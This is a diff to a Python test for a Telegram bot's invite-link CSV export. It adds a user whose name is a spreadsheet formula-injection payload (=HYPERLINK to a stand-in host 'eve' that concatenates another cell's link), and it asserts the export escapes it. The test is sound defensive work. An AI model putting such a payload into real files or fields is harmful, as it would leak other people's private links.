@@ -144,17 +144,21 @@ async def test_links_for_whom_telegram_does_not_know(
     url: str, empty_database: Callable[[], Awaitable[str]], tmp_path: Path
 ) -> None:
     old = await old_bot_at(await empty_database())
-    await old.people((1, 501, "ann", "user"), (2, None, "gus", "agent"))
+    # Somebody chose a name that would send the others' links away, were it worked out.
+    await old.people(
+        (1, 501, "ann", "user"), (2, None, "gus", "agent"), (3, None, '=HYPERLINK("//eve/"&C2)', "user")
+    )
     await run(url, "single-bot", "--source", "oldbot", old=old)
     links = tmp_path / "links.csv"
     codes = ("--source", "oldbot", "--bot", "@our_desk_bot", "--out", links)
     assert await run(url, *codes, command="import-codes") == (
         0,
-        f"1 links in {links}, each for one person, once, for 7 days\n",
+        f"2 links in {links}, each for one person, once, for 7 days\n",
     )
-    [head, line] = links.read_text(encoding="utf-8-sig").splitlines()
+    [head, line, other] = links.read_text(encoding="utf-8-sig").splitlines()
     assert head == "name,old id,link"
     assert line.startswith("gus,2,https://t.me/our_desk_bot?start=inv_")
+    assert other.startswith("\"'=HYPERLINK(")
     assert links.stat().st_mode & 0o077 == 0
     code, said = await run(url, *codes, command="import-codes")
     assert code == 1
